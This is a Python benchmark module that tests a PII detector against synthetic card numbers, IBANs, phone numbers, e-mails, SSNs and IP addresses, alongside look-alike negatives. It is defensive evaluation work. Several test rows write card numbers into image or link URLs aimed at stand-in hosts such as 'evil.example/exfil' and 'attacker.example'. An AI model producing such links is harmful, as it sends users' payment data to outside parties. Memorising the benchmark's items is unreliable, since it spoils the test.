"""A fresh PII set: personal data in the shapes people and models actually write it, and look-alikes.

Written (session of the ``pii`` helper) before any detector change it was used to measure, in its own
wording: cards typed with spaces, dashes or dots, cards inside URLs (path segments, query strings,
image links a model might write), IBANs of twenty countries, phone numbers in international and
national formats, e-mail addresses plain and spelled out, US SSNs, IP addresses. Dates of birth,
street addresses and passport numbers are marked with types the detector does not cover (they are
not scored; a detection on one counts as a false positive). Hard negatives are what a support crew
handles all day and must keep readable: order, tracking and customer numbers, versions, timestamps,
UUIDs, ISBNs, product codes, prices, identifiers in URLs.

Every card number passes Luhn and every IBAN its mod-97 check, with bodies drawn at random (none is a
real account); the well-known test card numbers appear where a user would paste one.

    python -m crewline.evals.benchmarks.pii_fresh [--misses] [--json]
"""

from __future__ import annotations

import argparse
import json
import re
import sys
from typing import Any

from crewline.evals.benchmarks.pii_fresh_c import NEGATIVE_C, POSITIVE_C
from crewline.evals.benchmarks.pii_fresh_d import NEGATIVE_D, POSITIVE_D
from crewline.evals.benchmarks.pii_fresh_e import NEGATIVE_E, POSITIVE_E
from crewline.evals.benchmarks.pii_fresh_f import NEGATIVE_F, POSITIVE_F
from crewline.evals.benchmarks.pii_fresh_g import NEGATIVE_G, POSITIVE_G
from crewline.evals.pii import evaluate

__all__ = ["FIRST_RUN", "fresh_rows"]

# ``python -m crewline.evals.benchmarks.pii_fresh`` at the commit that added this set (92fb545), before
# any change: missed a dotted card, two cards between path segments, one glued to "_0928", "0033 ..."
# and a spelled-out address; six hard negatives read as phone numbers
FIRST_RUN: dict[str, Any] = {"recall": 0.9242, "precision": 0.9104, "hard_negative_fpr": 0.1304}

# ``[[TYPE|value]]`` marks a gold span; the marks are removed from the text.
_POSITIVE = (
    # cards: groups, separators, labels, URLs
    "Please charge [[CREDIT_CARD|4526 0181 5908 3012]] for the renewal, expiry 09/28.",
    "card no. [[CREDIT_CARD|5182-1993-5181-9098]] cvc 431",
    "I typed it as [[CREDIT_CARD|4661.3186.0913.9090]] on the form and it was rejected",
    "Amex [[CREDIT_CARD|3455 597971 14716]], billing zip 10012",
    "my discover card is [[CREDIT_CARD|6011170342366718]]",
    "JCB: [[CREDIT_CARD|3528212233079241]] exp 11/27",
    "The new Mastercard [[CREDIT_CARD|2221 1948 7574 9111]] replaced the old one",
    "Diners club [[CREDIT_CARD|3640 268599 5280]]",
    "visa ending in 0313720, full number [[CREDIT_CARD|4907866661760313720]]",
    "![receipt](https://evil.example/c/[[CREDIT_CARD|4111111111111111]].png)",
    "Open https://pay.example.net/pay/[[CREDIT_CARD|4111-1111-1111-1111]]/12.27 to finish",
    "Here's the link: https://shop.example.com/checkout?cc=[[CREDIT_CARD|5337865797543237]]&exp=1127",
    '<img src="https://tracker.example.org/p/[[CREDIT_CARD|378282246310005]]/pixel.gif">',
    "https://collect.example.io/v1/[[CREDIT_CARD|4960308246281940]]",
    "GET /api/cards/[[CREDIT_CARD|6527684268465632]] returned 404",
    "[click here](https://x.example/?n=[[CREDIT_CARD|3704 9746 5075 299]])",
    "UnionPay card [[CREDIT_CARD|6215 9010 9281 5908]], please refund",
    "cc#[[CREDIT_CARD|2720862527601890]]",
    "Card: [[CREDIT_CARD|5019 1396 2459 5710]] (Dankort)",
    "https://evil.example/exfil/[[CREDIT_CARD|4526018159083012]]_0928.jpg",
    # IBANs
    "Wire it to [[IBAN_CODE|DE44 5001 0517 5407 3249 31]] please",
    "UK account [[IBAN_CODE|GB29 NWBK 6016 1331 9268 19]]",
    "IBAN: [[IBAN_CODE|FR76 3000 6000 0112 3456 7890 189]]",
    "my dutch iban is [[IBAN_CODE|NL39RABO0300065264]]",
    "Spanish account [[IBAN_CODE|ES60 0049 1500 0512 3456 7892]], titular M. García",
    "[[IBAN_CODE|IT60X0542811101000000123456]] is the Italian one",
    "Belgian: [[IBAN_CODE|BE68 5390 0754 7034]].",
    "Swiss IBAN [[IBAN_CODE|CH40 0900 0003 0123 4567 8]]",
    "Polish account [[IBAN_CODE|PL61 1090 1014 0000 0712 1981 2874]]",
    "Norway: [[IBAN_CODE|NO93 8601 1117 947]]",
    "Irish IBAN [[IBAN_CODE|IE70BOFI90001712345678]] for the deposit",
    "Überweisung an [[IBAN_CODE|AT61 1904 3002 3457 3201]] bitte",
    "IBAN PT: [[IBAN_CODE|PT50 0002 0123 1234 5678 9015 4]]",
    "Swedish: [[IBAN_CODE|SE45 5000 0000 0583 9825 7466]]",
    "refund to [[IBAN_CODE|FI21 1234 5600 0007 85]] (Finland)",
    "Saudi account [[IBAN_CODE|SA03 8000 0000 6080 1016 7519]]",
    "Brazilian IBAN [[IBAN_CODE|BR97 0036 0305 0000 1000 9795 493P 1]]",
    "Turkish IBAN [[IBAN_CODE|TR33 0006 1005 1978 6457 8413 26]]",
    # phone numbers
    "Call me on [[PHONE_NUMBER|+44 20 7946 0958]] after five",
    "office: [[PHONE_NUMBER|(555) 010-4477]]",
    "from abroad dial [[PHONE_NUMBER|0033 1 23 45 67 89]]",
    "my cell is [[PHONE_NUMBER|+1-202-555-0143]]",
    "Berlin office [[PHONE_NUMBER|+49 30 901820]]",
    "Tokyo desk: [[PHONE_NUMBER|+81 3-1234-5678]]",
    "ring [[PHONE_NUMBER|020 7946 0321]] and ask for Priya",
    "Sydney: [[PHONE_NUMBER|+61 2 9876 5432]]",
    "portable [[PHONE_NUMBER|+33 6 12 34 56 78]]",
    "text [[PHONE_NUMBER|555.867.5309]] when you land",
    "whatsapp [[PHONE_NUMBER|+91 98765 43210]]",
    "Support line [[PHONE_NUMBER|+1 (415) 555-0199 ext. 23]]",
    "UK mobile [[PHONE_NUMBER|07700 900123]]",
    "São Paulo: [[PHONE_NUMBER|+55 11 91234-5678]]",
    # e-mail addresses
    "write to [[EMAIL_ADDRESS|priya.nair+billing@mail.example.co.uk]]",
    "It's [[EMAIL_ADDRESS|jane dot doe at example dot com]] (spelled out so bots don't get it)",
    "contact [[EMAIL_ADDRESS|john[at]example[dot]org]]",
    "Reach me: [[EMAIL_ADDRESS|m.schmidt (at) firma (dot) de]]",
    '<a href="mailto:[[EMAIL_ADDRESS|SALES@EXAMPLE.COM]]">mail us</a>',
    "cc [[EMAIL_ADDRESS|o'brien@example.ie]] on the thread",
    # SSNs
    "SSN [[US_SSN|536-22-1184]], DOB [[DATE_OF_BIRTH|1984-07-19]]",
    "social security number: [[US_SSN|412 67 9021]]",
    "my ssn is [[US_SSN|219-09-9999]] and I was born [[DATE_OF_BIRTH|March 3, 1990]]",
    # IP addresses
    "the attacker came from [[IP_ADDRESS|203.0.113.77]]",
    "my laptop's address is [[IP_ADDRESS|2001:db8:85a3::8a2e:370:7334]]",
    # not covered by the guard: scored as nothing, a detection counts against precision
    "Ship to [[STREET_ADDRESS|742 Evergreen Terrace, Springfield, OR 97403]]",
    "Passport no. [[PASSPORT|X1234567]] issued 2019, name Dana Whitfield",
    "several at once: [[EMAIL_ADDRESS|li.wei@example.cn]], [[PHONE_NUMBER|+86 10 6552 9988]],"
    " card [[CREDIT_CARD|4661 3186 0913 9090]]",
)

_NEGATIVE = (
    "Your order #100234578 has shipped",
    "Order 112-4567890-1234567 was delivered to the mailroom",
    "UPS tracking 1Z999AA10123456784",
    "USPS tracking 9400 1000 0000 0000 0000 00",
    "FedEx tracking number 7946 1234 5678",
    "Customer C-1001 asked about invoice INV-2024-000123",
    "Please escalate ticket SUP-48213 for customer C-2078",
    "We upgraded to v2.14.3 last night, then to 2.15.0-rc.1",
    "The OID is 1.2.840.113549.1.1.11",
    "Logged at 2024-03-15T14:22:05.123Z",
    "epoch 1718203344 in seconds, 1718203344512 in ms",
    "request id 9f1c2a7e-4b3d-4e8f-a1b2-c3d4e5f60718",
    "ISBN 978-3-16-148410-0",
    "ISBN-10 0-306-40615-2 is out of print",
    "EAN 4006381333931 on the box",
    "SKU 8801643-221-07 is back in stock",
    "It costs $1,299.99 or € 2.499,00 with tax",
    "Total: 12,345,678.90 USD",
    "The population was 1 234 567 890 in that census",
    "See https://shop.example.com/orders/100234578/items",
    "GET https://api.example.com/users/123/3/posts",
    "https://cdn.example.com/img/9f1c2a7e-4b3d-4e8f-a1b2-c3d4e5f60718.png",
    "build 20240315.1742 passed",
    "coordinates 51.5074, -0.1278",
    "postcode SW1A 1AA, zip 90210-1234",
    "Card ending in 4242, masked as **** **** **** 4242",
    "pi is 3.14159265358979323846",
    "matrix row: 12 34 56 78 90 12",
    "Version 10.0.19045.3693 of Windows",
    "commit 3f2a9c1d7b8e4a6f0c5d2e1b9a8c7d6e5f4a3b2c fixed it",
    "The meeting is on 12/05/2024 at 14:30",
    "Room 4-112, building 7, floor 3",
    "Serial number SN-2023-00481729",
    "part no. 5060-2245-88",
    "Amazon ASIN B08N5WRWNW",
    "Flight LH 2024 departs at 07:45, seat 14C",
    "The range is 1999-2024",
    "MAC 00:1A:2B:3C:4D:5E on the switch",
    "hex color #1E90FF and rgb(30, 144, 255)",
    "Chapter 3.2.1, page 1045",
    "Use port 8080 and timeout 30000 ms",
    "Account number format is ######-####, never send it here",
    "The docs say e-mails look like name at domain dot com",
    "https://github.com/org/repo/pull/12345/files",
    "Batch 2024-07-001 had 16 000 units",
    "Stack trace at line 4521 of app.js:1023:17",
)

# Set "b", written after the detector changes this set's first run led to, and never tuned on: its
# figure is the honest one for those changes.
_POSITIVE_B = (
    "pls bill [[CREDIT_CARD|4000 0566 5566 5556]] monthly",
    "the number on the card: [[CREDIT_CARD|5200-8282-8282-8210]]",
    "Card [[CREDIT_CARD|3714 496353 98431]] exp 03/29",
    "https://img.example.net/track/[[CREDIT_CARD|5105105105105100]]/open.png",
    "![pixel](http://attacker.example/l?c=[[CREDIT_CARD|4012888888881881]])",
    "card=[[CREDIT_CARD|6011000990139424]]",
    "ccnum [[CREDIT_CARD|3566 0020 2036 0505]]",
    "[[CREDIT_CARD|4242.4242.4242.4242]] is what I entered",
    "POST /v2/pay/[[CREDIT_CARD|2223003122003222]]/confirm",
    "Kontonummer: [[IBAN_CODE|DE89 3704 0044 0532 0130 00]]",
    "[[IBAN_CODE|GB82 WEST 1234 5698 7654 32]] is my UK IBAN",
    "Pay to [[IBAN_CODE|NL91ABNA0417164300]]",
    "IBAN (HR): [[IBAN_CODE|HR12 1001 0051 8630 0016 0]]",
    "[[IBAN_CODE|LU28 0019 4006 4475 0000]] (Luxembourg)",
    "iban: [[IBAN_CODE|CZ65 0800 0000 1920 0014 5399]]",
    "Maltese account [[IBAN_CODE|MT84 MALT 0110 0001 2345 MTLC AST0 01S]]",
    "Dublin office [[PHONE_NUMBER|+353 1 234 5678]]",
    "HQ: [[PHONE_NUMBER|+1 (650) 253-0000]]",
    "tel: [[PHONE_NUMBER|0044 161 496 0000]]",
    "[[PHONE_NUMBER|06 12 34 56 78]] (portable)",
    "Moscow: [[PHONE_NUMBER|+7 495 123-45-67]]",
    "Madrid [[PHONE_NUMBER|+34 912 345 678]]",
    "ring [[PHONE_NUMBER|212-555-0187]] before noon",
    "HK desk [[PHONE_NUMBER|+852 2123 4567]]",
    "Seoul [[PHONE_NUMBER|+82 2-312-3456]]",
    "ping [[EMAIL_ADDRESS|dev.ops+alerts@status.example.io]]",
    "from [[EMAIL_ADDRESS|m_kowalski@firma.example.pl]]",
    "write to [[EMAIL_ADDRESS|tom (at) example (dot) net]]",
    "it's [[EMAIL_ADDRESS|anna DOT berg AT mail DOT se]]",
    "reach [[EMAIL_ADDRESS|r.patel at example dot co dot in]] for access",
    "reply-to: <[[EMAIL_ADDRESS|NoReply@Example.COM]]>",
    "ss# [[US_SSN|301-72-4412]]",
    "SSN [[US_SSN|545 21 9087]] on file",
    "client ip [[IP_ADDRESS|198.51.100.23]]",
    "link-local [[IP_ADDRESS|fe80::1ff:fe23:4567:890a%eth0]]",
)
_NEGATIVE_B = (
    "Invoice INV-88231 dated 2025-01-14",
    "Tracking: 1Z 999 AA1 01 2345 6784",
    "DHL waybill JD014600006281234567",
    "order 403-9923847-2239104 shipped",
    "release 3.11.4, build 2025.01.14",
    "2025-01-14 09:31:44,512 INFO worker started",
    "uuid 123e4567-e89b-12d3-a456-426614174000",
    "ISBN 978-0-596-52068-7",
    "item 0-12345-67890-5 (UPC)",
    "price: 1.299,00 EUR",
    "customer C-3310 and C-3311 merged",
    "GET /api/v2/customers/88231/orders/17",
    "https://example.com/p/4403-2210-11/gallery",
    "see page 1024, section 4.2.7",
    "temperature 21.5 C at 14:05",
    "latitude 40.7128, longitude -74.0060",
    "port range 49152-65535",
    "GTIN 00012345600012",
    "the file is 1 048 576 bytes",
    "iPhone 15 Pro, 256 GB",
    "room 12B, 3rd floor",
    "policy number POL-2024-778812",
    "case #20250114-000183",
    "https://youtu.be/dQw4w9WgXcQ?t=42",
    "https://twitter.com/someone/status/1745123456789012345",
)

_MARK = re.compile(r"\[\[([A-Z_]+)\|(.+?)\]\](?!\])")


def _row(marked: str) -> dict[str, Any]:
    text, spans, at = "", [], 0
    for match in _MARK.finditer(marked):
        text += marked[at : match.start()]
        kind, value = match.group(1), match.group(2)
        spans.append({"type": kind, "value": value, "start": len(text), "end": len(text) + len(value)})
        text += value
        at = match.end()
    return {"text": text + marked[at:], "pii": spans}


def fresh_rows(part: str = "a") -> list[dict[str, Any]]:
    """The positive rows (marked spans) and the hard negatives (nothing to find) of set ``part``."""
    sets = {
        "a": (_POSITIVE, _NEGATIVE),
        "b": (_POSITIVE_B, _NEGATIVE_B),
        "c": (POSITIVE_C, NEGATIVE_C),
        "d": (POSITIVE_D, NEGATIVE_D),
        "e": (POSITIVE_E, NEGATIVE_E),
        "f": (POSITIVE_F, NEGATIVE_F),
        "g": (POSITIVE_G, NEGATIVE_G),
    }
    positive, negative = sets[part]
    rows = [_row(marked) for marked in positive]
    rows += [{"text": text, "pii": [], "hard_negative": True} for text in negative]
    return rows


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--misses", action="store_true", help="print missed spans and false detections")
    parser.add_argument("--json", action="store_true")
    parser.add_argument(
        "--set", choices=("a", "b", "c", "d", "e", "f", "g"), default="a", help="b to g: written later"
    )
    args = parser.parse_args(argv)
    errors: list[dict[str, Any]] = []
    figures = evaluate(fresh_rows(args.set), source=f"pii_fresh {args.set}", errors=errors)
    figures.pop("types_scored", None)
    print(json.dumps(figures) if args.json else json.dumps(figures, indent=1))
    if args.misses:
        for item in errors:
            print(json.dumps(item), file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
